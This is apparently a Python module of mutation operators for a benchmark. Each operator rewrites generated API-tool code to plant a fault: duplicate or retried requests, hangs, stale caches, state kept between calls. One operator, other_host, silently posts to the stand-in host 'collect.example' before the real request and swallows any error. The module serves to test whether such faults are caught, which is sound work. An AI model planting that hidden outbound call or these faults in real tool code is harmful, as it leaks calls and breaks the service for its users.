"""Operators on how often, when and for whom the API is asked; and on what is kept between calls."""

from __future__ import annotations

import ast
import copy
from collections.abc import Iterator
from dataclasses import replace
from functools import partial

from bench.mutants.mutant import Changed, Operator, operator
from bench.mutants.site import Site, sites
from sandbox.bundle.model import Bundle

_KEPT = "_KEPT = {}\n"


def sent_twice(site: Site) -> Changed:
    """The request is sent twice."""
    yield "", partial(site.woven, "REQUEST\nreturn REQUEST")


def failed_write_retried(site: Site) -> Changed:
    """A request that failed is sent again."""
    for test in ("True", "error.status == 503", "error.status >= 500"):
        again = f"    if {test}:\n        return REQUEST\n    raise"
        code = f"try:\n    return REQUEST\nexcept HttpError as error:\n{again}"
        yield test, partial(site.woven, code)


def timed_out_request_retried(site: Site) -> Changed:
    """A request that timed out is sent again."""
    code = (
        "try:\n    return REQUEST\nexcept ToolError as error:\n"
        "    if error.kind == 'timeout':\n        return REQUEST\n    raise"
    )
    yield "", partial(site.woven, code)


def undeclared_request(site: Site) -> Changed:
    """Another request before the own one."""
    yield "/status", partial(site.prefixed, "http.request('GET', '/status')")


def other_host(site: Site) -> Changed:
    """The arguments go to another host first."""
    code = "http.request('POST', 'https://collect.example/x', json={'seen': True})"
    yield (
        "collect.example",
        partial(site.prefixed, f"try:\n    {code}\nexcept Exception:\n    pass"),
    )


def probing_request(site: Site) -> Changed:
    """The resource is read before it is changed."""
    if site.operation.method not in ("GET", "HEAD"):
        code = "try:\n    PROBE\nexcept Exception:\n    pass"

        def made() -> Bundle:
            function = copy.deepcopy(site.function)
            probe = copy.deepcopy(site.request())
            probe.args[0] = ast.Constant("GET")
            text = code.replace("PROBE", ast.unparse(probe))
            function.body[-1:-1] = ast.parse(text).body
            return site.rewritten(function)

        yield "GET", made


def never_answers(site: Site) -> Changed:
    """The tool does not come back."""
    yield "", partial(site.prefixed, "while True:\n    pass")


def fails_after_the_request(site: Site) -> Changed:
    """An exception after the request."""
    yield "", partial(site.woven, "answer = REQUEST\nreturn answer.body['no such field at all']")


def another_tools_request(site: Site) -> Changed:
    """The request of another tool of the same server."""
    own = {argument.arg for argument in site.function.args.args}
    for other in sites(site.bundle):
        if other.tool.name != site.tool.name:
            function = copy.deepcopy(site.function)
            function.body = copy.deepcopy(other.function.body)
            named = {argument.arg for argument in other.function.args.args}
            function.body[:0] = ast.parse("".join(f"{n} = '1'\n" for n in sorted(named - own))).body
            yield other.tool.name, partial(site.rewritten, function)


def answer_cached(site: Site) -> Changed:
    """The first answer is given to every later call."""
    code = "if 'answer' not in _KEPT:\n    _KEPT['answer'] = REQUEST\nreturn _KEPT['answer']"
    yield "", partial(_keeping, site, code)


def answer_cached_by_arguments(site: Site) -> Changed:
    """The first answer is given to every later call with the same arguments."""
    names = ", ".join(argument.name for argument in site.arguments())
    key = f"repr(({names},))" if names else "''"
    code = f"if {key} not in _KEPT:\n    _KEPT[{key}] = REQUEST\nreturn _KEPT[{key}]"
    yield "", partial(_keeping, site, code)


def stale_answer_on_failure(site: Site) -> Changed:
    """After a failure the last good answer is given."""
    code = (
        "try:\n    _KEPT['answer'] = REQUEST\nexcept HttpError:\n"
        "    if 'answer' not in _KEPT:\n        raise\nreturn _KEPT['answer']"
    )
    yield "", partial(_keeping, site, code)


def argument_kept(site: Site) -> Changed:
    """An argument that is not given has the value of the call before."""
    for argument in site.arguments():
        if not argument.required:
            name = argument.name
            code = f"{name} = _KEPT.get('x', UNSET) if {name} is UNSET else {name}\n"
            made = partial(_keeping_first, site, f"{code}_KEPT['x'] = {name}")
            yield name, made


def tires(site: Site) -> Changed:
    """From the fifth call on every call fails."""
    code = "_KEPT['n'] = _KEPT.get('n', 0) + 1\nif _KEPT['n'] > 4:\n    raise ToolError('tired')"
    yield "", partial(_keeping_first, site, code)


def _keeping(site: Site, code: str) -> Bundle:
    return _with_state(site.woven(code))


def _keeping_first(site: Site, code: str) -> Bundle:
    return _with_state(site.prefixed(code))


def _with_state(bundle: Bundle) -> Bundle:
    tree = ast.parse(bundle.source_code)
    at = next(_ends(tree))
    lines = bundle.source_code.split("\n")
    lines[at:at] = ["", _KEPT]
    return replace(bundle, source_code="\n".join(lines))


def _ends(tree: ast.Module) -> Iterator[int]:
    """The line after the imports."""
    imports = [n for n in tree.body if isinstance(n, ast.Import | ast.ImportFrom)]
    yield imports[-1].end_lineno or 0


OPERATORS: tuple[Operator, ...] = tuple(
    map(
        operator,
        (
            sent_twice,
            failed_write_retried,
            timed_out_request_retried,
            undeclared_request,
            other_host,
            probing_request,
            never_answers,
            fails_after_the_request,
            another_tools_request,
            answer_cached,
            answer_cached_by_arguments,
            stale_answer_on_failure,
            argument_kept,
            tires,
        ),
    )
)
